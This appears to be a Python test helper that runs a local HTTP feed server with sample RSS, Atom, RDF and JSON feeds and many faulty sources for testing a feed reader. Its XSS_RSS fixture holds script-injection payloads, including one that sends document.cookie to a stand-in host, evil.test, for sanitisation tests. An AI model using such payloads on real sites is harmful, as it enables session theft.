"""A real HTTP feed server on 127.0.0.1 for tests: good feeds and every way a source can misbehave.

Starlette app served by uvicorn in a background thread of the test process, on a free port.

    with start_feed_server() as server:
        server.url               # "http://127.0.0.1:PORT"
        server.hits("/flaky500?k=a")   # requests seen for that path (with or without query)

Routes
    /feeds/{name}        static feed bytes with ETag + Last-Modified; 304 on a matching
                         If-None-Match / If-Modified-Since (defaults: rss, atom, rdf, json)
    /hang                accepts the request and never answers
    /slow-body           sends headers, then one byte per second
    /slow?delay=0.3&group=g   answers the RSS feed after a delay; tracks requests in flight
                         per group (default: the path), see max_inflight()
    /article             an HTML news article page (for full-text extraction)
    /429?retry_after=1&times=1[&date=1]   429 (Retry-After seconds, or an HTTP-date with
                         date=1) the first `times` requests for this exact path+query, then OK
    /flaky500            500 twice per path+query, then OK
    /always500           500 every time
    /status/{code}       that status with a short body
    /bad-xml             broken XML, no entries
    /bad-encoding        declares UTF-8, sends windows-1251 Russian
    /huge                10 MB (Content-Length set); /huge?chunked=1 streams without one
    /redirect-loop       302 -> /redirect-loop-b -> 302 -> /redirect-loop ...
    /redirect-once       302 -> /feeds/rss
    /redirect-to?url=U   302 -> U (any address: for the private-address checks)
    /empty               a valid RSS feed with no items
    /not-a-feed          an HTML page
    /xss                 RSS with <script> in titles and bodies and an onerror= img

Counters are per exact path+query, so tests sharing the session server use a unique `k=`.
"""

from __future__ import annotations

import asyncio
import email.utils
import hashlib
import socket
import threading
import time
from collections import Counter
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse, RedirectResponse, Response, StreamingResponse
from starlette.routing import Route

RSS_TYPE = "application/rss+xml; charset=utf-8"

SAMPLE_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel>
<title>Test Gazette</title><link>https://gazette.test/</link><description>Test feed</description>
<language>en</language>
<item><title>Harbour bridge reopens after repairs</title><link>https://gazette.test/bridge?utm_source=rss</link>
<guid isPermaLink="false">gazette-1</guid><pubDate>Mon, 03 Mar 2025 09:00:00 GMT</pubDate>
<description>&lt;p&gt;The harbour bridge &lt;b&gt;reopened&lt;/b&gt; on Monday after six weeks of repairs.&lt;/p&gt;</description></item>
<item><title>Library extends opening hours</title><link>https://gazette.test/library</link>
<guid isPermaLink="false">gazette-2</guid><pubDate>Tue, 04 Mar 2025 10:30:00 GMT</pubDate>
<description>The central library will stay open until 9 pm on weekdays from April.</description></item>
</channel></rss>
"""

SAMPLE_ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">
<title>Test Atom</title><id>urn:test:atom</id><updated>2025-03-05T12:00:00Z</updated>
<entry><title type="html">Chip maker &lt;em&gt;doubles&lt;/em&gt; output</title><id>tag:atom.test,2025:1</id>
<link href="https://atom.test/chips"/><updated>2025-03-05T12:00:00Z</updated><author><name>Ada Byte</name></author>
<content type="html">&lt;p&gt;A chip maker doubled its output this quarter.&lt;/p&gt;</content></entry>
</feed>
"""

SAMPLE_RDF = b"""<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://rdf.test/"><title>Test RDF</title><link>https://rdf.test/</link>
<description>Test</description><items><rdf:Seq><rdf:li rdf:resource="https://rdf.test/comet"/></rdf:Seq></items></channel>
<item rdf:about="https://rdf.test/comet"><title>Comet seen from the valley</title><link>https://rdf.test/comet</link>
<description>Amateur astronomers photographed a faint comet.</description><dc:date>2025-03-06T21:00:00Z</dc:date></item>
</rdf:RDF>
"""

SAMPLE_JSON = b"""{"version": "https://jsonfeed.org/version/1.1", "title": "Test JSON",
 "items": [{"id": "json-1", "url": "https://json.test/1", "title": "Rain expected all week",
 "content_text": "Forecasters expect rain every day this week.", "date_published": "2025-03-07T06:00:00Z"}]}
"""

EMPTY_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Nothing yet</title><link>https://empty.test/</link>
<description>No items</description></channel></rss>
"""

# Broken before any item: nothing is recoverable, so parsing must fail with a clear reason.
BAD_XML = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0">
<channel><title>Broken & unescaped <feed</title>
"""

BAD_ENCODING = (
    '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Вести</title>'
    "<link>https://enc.test/</link><description>Тест</description>"
    "<item><title>Городской совет утвердил новый бюджет</title><link>https://enc.test/1</link>"
    "<description>Депутаты городского совета проголосовали за бюджет на следующий год.</description></item>"
    "</channel></rss>\n"
).encode("cp1251")

NOT_A_FEED = b"""<!DOCTYPE html>
<html><head><title>Welcome</title></head><body><h1>Our site</h1><p>No feed here.</p></body></html>
"""

XSS_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>XSS test &lt;script&gt;alert('chan')&lt;/script&gt;</title>
<link>https://xss.test/</link><description>hostile</description>
<item><title>Breaking &lt;script&gt;alert(1)&lt;/script&gt;news</title><link>https://xss.test/1</link>
<description>&lt;p&gt;Body text&lt;script&gt;document.location='https://evil.test/?c='+document.cookie&lt;/script&gt;
&lt;img src=x onerror=alert(2)&gt; continues &lt;iframe src="https://evil.test/"&gt;frame text&lt;/iframe&gt;here.&lt;/p&gt;</description></item>
<item><title><![CDATA[Second <script>alert(3)</script>story <img src=x onerror="alert(4)">]]></title>
<link>https://xss.test/2</link>
<description><![CDATA[<div onclick="alert(5)">Clean words<style>body{display:none}</style> only</div>]]></description></item>
</channel></rss>
"""

ARTICLE_HTML = b"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Harbour bridge reopens | Test Gazette</title>
<script>var tracking = "should never be extracted";</script></head>
<body>
<nav><a href="/">Home</a> <a href="/sport">Sport</a> <a href="/weather">Weather</a></nav>
<article>
<h1>Harbour bridge reopens after six weeks of repairs</h1>
<p>The harbour bridge reopened to traffic on Monday morning after six weeks of repairs to its
steel deck, ending long detours for thousands of commuters who cross the river every day.</p>
<p>Engineers replaced more than two hundred corroded bolts and resurfaced both lanes. The city
said the work finished four days ahead of schedule and slightly under its budget.</p>
<p>Cyclists will get a separate protected lane on the eastern side from next month, once the
new barriers have been delivered and installed by the contractor.</p>
</article>
<footer>Copyright Test Gazette. All rights reserved.</footer>
</body></html>
"""

HUGE_SIZE = 10 * 1024 * 1024

DEFAULT_FEEDS: dict[str, tuple[bytes, str]] = {
    "rss": (SAMPLE_RSS, RSS_TYPE),
    "atom": (SAMPLE_ATOM, "application/atom+xml; charset=utf-8"),
    "rdf": (SAMPLE_RDF, "application/rdf+xml; charset=utf-8"),
    "json": (SAMPLE_JSON, "application/feed+json"),
}


@dataclass
class _State:
    feeds: dict[str, tuple[bytes, str]] = field(default_factory=lambda: dict(DEFAULT_FEEDS))
    counts: Counter[str] = field(default_factory=Counter)
    headers: dict[str, dict[str, str]] = field(default_factory=dict)
    inflight: Counter[str] = field(default_factory=Counter)
    max_inflight: Counter[str] = field(default_factory=Counter)
    lock: threading.Lock = field(default_factory=threading.Lock)
    stopping: threading.Event = field(default_factory=threading.Event)
    last_modified: float = field(default_factory=lambda: float(int(time.time()) - 3600))


class FeedServer:
    """Handle for a running server: its URL, and what it has seen."""

    def __init__(self, url: str, state: _State) -> None:
        self.url = url
        self._state = state

    def hits(self, path: str) -> int:
        """Requests received for ``path`` (counts all queries) or ``path?query`` (that exact one)."""
        with self._state.lock:
            return self._state.counts[path]

    def last_headers(self, path: str) -> dict[str, str]:
        """Request headers (lower-case names) of the latest request for ``path`` or ``path?query``."""
        with self._state.lock:
            return dict(self._state.headers.get(path, {}))

    def max_inflight(self, group: str) -> int:
        """The most /slow requests of ``group`` (default group: "/slow") in progress at one time."""
        with self._state.lock:
            return self._state.max_inflight[group]

    def set_feed(self, name: str, body: bytes, content_type: str = RSS_TYPE) -> None:
        with self._state.lock:
            self._state.feeds[name] = (body, content_type)

    @property
    def last_modified(self) -> str:
        return email.utils.formatdate(self._state.last_modified, usegmt=True)


def _key(request: Request) -> str:
    q = request.url.query
    return request.url.path + (f"?{q}" if q else "")


def _build_app(state: _State) -> Any:
    def feed_response(request: Request, body: bytes, content_type: str) -> Response:
        etag = '"' + hashlib.sha1(body).hexdigest()[:16] + '"'
        last_modified = email.utils.formatdate(state.last_modified, usegmt=True)
        headers = {"ETag": etag, "Last-Modified": last_modified}
        inm = request.headers.get("if-none-match")
        ims = request.headers.get("if-modified-since")
        if inm is not None:
            # If-None-Match wins over If-Modified-Since (RFC 9110 13.2.2).
            if etag in [t.strip() for t in inm.split(",")] or inm.strip() == "*":
                return Response(status_code=304, headers=headers)
        elif ims is not None:
            try:
                since = email.utils.parsedate_to_datetime(ims).timestamp()
            except (TypeError, ValueError):
                since = None
            if since is not None and since >= state.last_modified:
                return Response(status_code=304, headers=headers)
        return Response(body, media_type=content_type, headers=headers)

    async def feeds(request: Request) -> Response:
        name = request.path_params["name"]
        with state.lock:
            entry = state.feeds.get(name)
        if entry is None:
            return PlainTextResponse("no such feed", status_code=404)
        return feed_response(request, *entry)

    async def wait_until_stopping(seconds: float) -> bool:
        """Sleep up to ``seconds``; True if the server began stopping meanwhile."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if state.stopping.is_set():
                return True
            await asyncio.sleep(0.05)
        return state.stopping.is_set()

    async def hang(request: Request) -> Response:
        await wait_until_stopping(3600)
        return PlainTextResponse("server stopping", status_code=503)

    async def slow_body(request: Request) -> Response:
        async def drip() -> AsyncIterator[bytes]:
            yield b"<"
            for ch in b'?xml version="1.0"?><rss version="2.0"><channel><title>slow</title></channel></rss>':
                if await wait_until_stopping(1.0):
                    return
                yield bytes([ch])

        return StreamingResponse(drip(), media_type=RSS_TYPE)

    async def slow(request: Request) -> Response:
        delay = float(request.query_params.get("delay", "0.3"))
        path = request.query_params.get("group", request.url.path)
        with state.lock:
            state.inflight[path] += 1
            state.max_inflight[path] = max(state.max_inflight[path], state.inflight[path])
        try:
            await wait_until_stopping(delay)
        finally:
            with state.lock:
                state.inflight[path] -= 1
        return Response(SAMPLE_RSS, media_type=RSS_TYPE)

    async def too_many(request: Request) -> Response:
        times = int(request.query_params.get("times", "1"))
        retry_after = request.query_params.get("retry_after", "1")
        with state.lock:
            n = state.counts[_key(request)]
        if n <= times:
            if request.query_params.get("date"):
                value = email.utils.formatdate(time.time() + float(retry_after), usegmt=True)
            else:
                value = retry_after
            return PlainTextResponse("slow down", status_code=429, headers={"Retry-After": value})
        return Response(SAMPLE_RSS, media_type=RSS_TYPE)

    async def flaky500(request: Request) -> Response:
        with state.lock:
            n = state.counts[_key(request)]
        if n <= 2:
            return PlainTextResponse("oops", status_code=500)
        return Response(SAMPLE_RSS, media_type=RSS_TYPE)

    async def always500(request: Request) -> Response:
        return PlainTextResponse("always broken", status_code=500)

    async def status(request: Request) -> Response:
        code = int(request.path_params["code"])
        return PlainTextResponse(f"status {code}", status_code=code)

    async def bad_xml(request: Request) -> Response:
        return Response(BAD_XML, media_type=RSS_TYPE)

    async def bad_encoding(request: Request) -> Response:
        return Response(BAD_ENCODING, media_type=RSS_TYPE)

    async def huge(request: Request) -> Response:
        if request.query_params.get("chunked"):

            async def chunks() -> AsyncIterator[bytes]:
                block = b"x" * 65536
                for _ in range(HUGE_SIZE // len(block)):
                    yield block

            return StreamingResponse(chunks(), media_type=RSS_TYPE)
        return Response(b"x" * HUGE_SIZE, media_type=RSS_TYPE)

    async def redirect_loop(request: Request) -> Response:
        return RedirectResponse("/redirect-loop-b", status_code=302)

    async def redirect_loop_b(request: Request) -> Response:
        return RedirectResponse("/redirect-loop", status_code=302)

    async def redirect_once(request: Request) -> Response:
        return RedirectResponse("/feeds/rss", status_code=302)

    async def redirect_to(request: Request) -> Response:
        return RedirectResponse(request.query_params.get("url", "/"), status_code=302)

    async def empty(request: Request) -> Response:
        return Response(EMPTY_RSS, media_type=RSS_TYPE)

    async def not_a_feed(request: Request) -> Response:
        return Response(NOT_A_FEED, media_type="text/html; charset=utf-8")

    async def xss(request: Request) -> Response:
        return Response(XSS_RSS, media_type=RSS_TYPE)

    async def article(request: Request) -> Response:
        return Response(ARTICLE_HTML, media_type="text/html; charset=utf-8")

    app = Starlette(
        routes=[
            Route("/feeds/{name}", feeds),
            Route("/hang", hang),
            Route("/slow-body", slow_body),
            Route("/slow", slow),
            Route("/429", too_many),
            Route("/flaky500", flaky500),
            Route("/always500", always500),
            Route("/status/{code:int}", status),
            Route("/bad-xml", bad_xml),
            Route("/bad-encoding", bad_encoding),
            Route("/huge", huge),
            Route("/redirect-loop", redirect_loop),
            Route("/redirect-loop-b", redirect_loop_b),
            Route("/redirect-once", redirect_once),
            Route("/redirect-to", redirect_to),
            Route("/empty", empty),
            Route("/not-a-feed", not_a_feed),
            Route("/xss", xss),
            Route("/article", article),
        ]
    )

    async def counting_app(scope: dict[str, Any], receive: Any, send: Any) -> None:
        # Count before routing, so handlers can read "this is request number n".
        if scope["type"] == "http":
            path = scope["path"]
            query = scope.get("query_string", b"").decode("latin-1")
            headers = {
                k.decode("latin-1").lower(): v.decode("latin-1") for k, v in scope["headers"]
            }
            with state.lock:
                state.counts[path] += 1
                state.headers[path] = headers
                if query:
                    state.counts[f"{path}?{query}"] += 1
                    state.headers[f"{path}?{query}"] = headers
        await app(scope, receive, send)

    return counting_app


@contextmanager
def start_feed_server() -> Iterator[FeedServer]:
    """Run the server in a daemon thread for the duration of the ``with`` block."""
    state = _State()
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    config = uvicorn.Config(
        _build_app(state),
        log_level="warning",
        access_log=False,
        lifespan="off",
        # Hanging handlers notice `stopping` within 50 ms; this is only a backstop.
        timeout_graceful_shutdown=2,
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(
        target=server.run, kwargs={"sockets": [sock]}, daemon=True, name="feed-server"
    )
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started:
        if not thread.is_alive() or time.monotonic() > deadline:
            raise RuntimeError("feed server did not start")
        time.sleep(0.01)
    try:
        yield FeedServer(f"http://127.0.0.1:{port}", state)
    finally:
        state.stopping.set()
        server.should_exit = True
        thread.join(timeout=10)
        sock.close()
